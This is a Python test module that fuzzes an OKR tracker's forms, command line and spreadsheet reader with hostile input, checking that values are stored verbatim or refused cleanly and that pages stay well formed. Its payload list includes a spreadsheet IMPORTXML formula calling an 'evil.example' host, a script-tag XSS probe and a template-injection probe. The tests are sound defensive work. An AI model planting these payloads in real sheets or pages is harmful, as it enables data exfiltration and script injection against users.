"""Bad input by the hundred, through the forms, the command line and the sheet.

It is stored as it was typed or refused with a sentence; never evaluated, never a trace, and never
does it break another row or the HTML of a page. A few in every run of the tests, hundreds in
`make soak`.
"""

import math
import os
import re
from collections.abc import Iterator
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from okr.__main__ import main
from okr.cells import read_text
from okr.columns import CHECK_INS, KEY_RESULTS, OBJECTIVES
from okr.model import Cell
from okr.snapshot import build_snapshot
from okr.views import html
from okr.views.addresses import Address
from okr.views.check_in import UnclearError, build_history, read_value
from okr.views.overview import build_overview
from okr.views.team import draw_team
from okr.workbooks.drafting import draft_check_in, draft_edit, draft_objective, held_cells
from okr.workbooks.interface import RefusedError
from tests.contract.google_fixtures import START, a_spreadsheet, google_home
from tests.contract.test_workbook_contract import HOMES, Home
from tests.unit.boards import a_board, board_of, standing_of
from tests.unit.readings import KEY_RESULT, a_key_result
from tests.unit.test_views_escaping import ALLOWED, Reader

BAD = [
    *("NaN", "nan", "inf", "-inf", "1e308", "1e999", "-1e308", "0x10", "1_000", "١٢", "½", "4E2"),
    *('=IMPORTXML("http://evil.example","//a")', "=1+1", "+1", "-1", "@SUM(A1)", "'1", "\t=1+1"),
    *("#REF!", "#N/A", "0000-01-01", "0000-00-00", "1899-12-30", "9999-12-31", "30 Feb 2026"),
    *("\x00\x07\x1b[31m", "\u202eevil", "שלום", "🎉👩‍👩‍👧", "a\r\nb", "\ud800", "9" * 400),
    *("<script>alert(1)</script>", "</style><h1>big", "{{ 7*7 }}", "x" * 60_000),
]
TEXTS = st.one_of(st.sampled_from(BAD), st.text(), st.floats().map(str), st.integers().map(str))
MANY = settings(
    max_examples=300 if "OKR_SOAK" in os.environ else 12,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
TABS: dict[str, list[list[Cell]]] = {
    OBJECTIVES: [
        ["ID", "Cycle", "Team", "Objective", "Owner"],
        ["O-1", "2026-Q2", "Growth", "Customers stay", "ada"],
    ],
    KEY_RESULTS: [
        ["ID", "Objective", "Key result", "Start", "Target", "Current", "Unit", "Owner", "Due"],
        ["KR-1", "O-1", "Cut churn", 8, 5, 7, "", "ada", ""],
        ["KR-2", "O-1", "Answer within a day", 40, 90, 50, "%", "bo", ""],
    ],
}


@pytest.fixture(params=HOMES)
def home(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Home]:
    with HOMES[request.param](TABS, tmp_path) as made:
        yield made


def snapshot_of(home: Home) -> Any:
    return build_snapshot(home.another().read())


def assert_sound(home: Home) -> None:
    """See that the other row is as it was, and that pages of this sheet are whole."""
    rows = home.rows(KEY_RESULTS)
    assert rows[2] == ["KR-2", "O-1", "Answer within a day", 40, 90, 50, "%", "bo"]
    assert_pages(board_of(snapshot_of(home)))


def assert_pages(board: Any) -> None:
    """See that pages open and close what they hold, and hold nothing but the board's own tags."""
    pages = [html.draw("overview", build_overview(board, Address("", {})))]
    pages += [
        part
        for team in board.teams
        for part in draw_team(board, team.team.name, Address("team", {}))[1:]
    ]
    pages += [
        html.draw("check_in", build_history(one, board), "history") for one in board.key_results
    ]
    for page in pages:
        reader = Reader()
        reader.feed(page)
        reader.close()
        assert not reader.open
        assert set(reader.tags) <= ALLOWED


def assert_sentence(said: str) -> None:
    assert re.match(r"\S.*[.]$", said.strip(), re.DOTALL)
    assert "Traceback" not in said and "Error:" not in said


def visible(text: str) -> str:
    """Leave out what parts words, and what nobody can see at the ends."""
    return "".join(char for char in read_text(text) if not char.isspace())


# --- the forms ------------------------------------------------------------------------------------


def test_a_check_in_form_stores_what_was_typed_or_says_why_not(home: Home) -> None:
    numbers = count()

    @example(value="7", belief="", note='=IMPORTXML("http://evil.example","//a")', by="+1")
    @example(value="7", belief="70%", note="x" * 60_000, by="ada")
    @example(value="1e308", belief="high", note="", by="ada")
    @MANY
    @given(value=TEXTS | st.just("7"), belief=TEXTS | st.just(""), note=TEXTS, by=TEXTS)
    def sends(value: str, belief: str, note: str, by: str) -> None:
        snapshot = snapshot_of(home)
        one = next(each for each in snapshot.key_results if each.id == "KR-1")
        before = home.rows(CHECK_INS)
        try:
            draft = draft_check_in(
                snapshot,
                one,
                value=read_value(value, one),
                confidence=belief,
                note=note,
                by=by,
                operation=f"op-{next(numbers)}",
                when=START,
            )
            saved = home.workbook.save_check_in(draft)
        except (RefusedError, UnclearError) as refused:
            assert_sentence(str(refused))
            assert home.rows(CHECK_INS) == before
            return
        said = dict(zip(home.rows(CHECK_INS)[0], home.rows(CHECK_INS)[-1], strict=False))
        assert said["ID"] == saved.id
        assert visible(str(said.get("Note", ""))) == visible(note)
        assert visible(str(said["By"])) == visible(by)
        assert isinstance(said["By"], str) and isinstance(said.get("Note", ""), str)
        number = said.get("Value", "")
        assert isinstance(number, str | bool) or math.isfinite(number)
        assert_sound(home)

    sends()


def test_an_edit_form_stores_what_was_typed_or_says_why_not(home: Home) -> None:
    numbers = count()

    @example(column="Due", text="0000-01-01")
    @example(column="Key result", text='=IMPORTXML("http://evil.example","//a")')
    @example(column="Target", text="NaN")
    @MANY
    @given(st.sampled_from(["Key result", "Owner", "Unit", "Start", "Target", "Due"]), TEXTS)
    def sends(column: str, text: str) -> None:
        reading = home.another().read()
        snapshot = build_snapshot(reading)
        one = next(each for each in snapshot.key_results if each.id == "KR-1")
        how: Any = {"by": "ada", "operation": f"op-{next(numbers)}", "when": START}
        before = home.rows(KEY_RESULTS)
        try:
            held = held_cells(reading, one)
            home.workbook.save_edit(draft_edit(snapshot, one, {column: text}, held=held, **how))
        except RefusedError as refused:
            assert_sentence(str(refused))
            assert home.rows(KEY_RESULTS) == before
            return
        place = TABS[KEY_RESULTS][0].index(column)
        row = home.rows(KEY_RESULTS)[1]
        stored = row[place] if place < len(row) else ""
        if column in ("Key result", "Owner", "Unit"):
            assert isinstance(stored, str) and visible(stored) == visible(text)
        else:
            assert stored == "" or isinstance(stored, int | float)
        assert_sound(home)

    sends()


def test_a_new_objective_holds_what_was_typed_or_is_refused(home: Home) -> None:
    numbers = count()

    @MANY
    @given(TEXTS, TEXTS)
    def sends(title: str, team: str) -> None:
        how: Any = {"by": "ada", "operation": f"op-{next(numbers)}", "when": START}
        before = home.rows(OBJECTIVES)
        try:
            typed = {"Objective": title, "Team": team, "Cycle": "2026-Q2"}
            home.workbook.add_row(draft_objective(snapshot_of(home), typed, **how))
        except RefusedError as refused:
            assert_sentence(str(refused))
            assert home.rows(OBJECTIVES) == before
            return
        rows = home.rows(OBJECTIVES)
        assert rows[: len(before)] == before
        assert visible(str(rows[-1][3])) == visible(title)
        assert_sound(home)

    sends()


# --- the command line -----------------------------------------------------------------------------


@MANY
@given(value=TEXTS | st.just("7"), belief=TEXTS | st.just("70%"), note=TEXTS, by=TEXTS)
def test_the_command_line_stores_it_or_says_why_not(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    value: str,
    belief: str,
    note: str,
    by: str,
) -> None:
    path = tmp_path / "acme.xlsx"
    path.unlink(missing_ok=True)
    with HOMES["file"](TABS, tmp_path) as home:
        [made] = tmp_path.glob("*.xlsx")
        arguments = [f"--value={value}", f"--confidence={belief}", f"--note={note}", f"--by={by}"]
        capsys.readouterr()
        try:
            status = main(["check-in", "KR-1", *arguments, f"--workbook={made}"])
        except SystemExit as end:
            status = int(end.code or 0)
        told = capsys.readouterr().err
        assert status in (0, 1, 2)
        assert "Traceback" not in told
        if status == 1:
            assert_sentence(told)
            assert len(told.strip().splitlines()) == 1
        assert len(home.rows(CHECK_INS)) == (2 if status == 0 else 0)
        if status == 0:
            said = dict(zip(home.rows(CHECK_INS)[0], home.rows(CHECK_INS)[1], strict=False))
            assert visible(str(said.get("Note", ""))) == visible(note)
        assert_sound(home)
        made.unlink()


# --- the sheet ------------------------------------------------------------------------------------

CELLS = st.one_of(
    TEXTS,
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.sampled_from([1e308, -1e308, -693_594.0, 0.0, 2_958_466.0, 5e-324]),
)
SOUND = a_key_result(id="KR-2", key_result="Answer within a day", current=40.0)


@settings(MANY, max_examples=100)
@given(
    st.dictionaries(
        st.sampled_from([name for name in KEY_RESULT if name != "ID"]), CELLS, min_size=1
    )
)
def test_no_cell_of_a_sheet_breaks_another_row_or_a_page(cells: dict[str, Cell]) -> None:
    alone = standing_of(a_board(None, [SOUND]), "KR-2")

    board = a_board(None, [{**KEY_RESULT, **cells}, SOUND])

    found = standing_of(board, "KR-2")
    assert (found.score, found.status, found.progress) == (
        alone.score,
        alone.status,
        alone.progress,
    )
    for problem in board.problems:
        assert_sentence(problem.message)
    assert_pages(board)


@pytest.mark.parametrize("text", BAD)
def test_what_stands_in_the_sheet_is_read_and_left_as_it_is(text: str) -> None:
    """Through Google's own interface: typed by a person into the title, the value and the name."""
    tabs = {title: [[*row] for row in rows] for title, rows in TABS.items()}
    for column in (2, 5, 7):
        tabs[KEY_RESULTS][1][column] = text.replace("\ud800", "?")[:50_000]
    with google_home(tabs) as home:
        board = board_of(build_snapshot(home.workbook.read()))

        assert standing_of(board, "KR-2").key_result.current == 50
        assert_pages(board)
        assert (
            a_spreadsheet(tabs).tabs[1].rows[1].cells
            == home.api.spreadsheets["demo"].tabs[1].rows[1].cells
        )
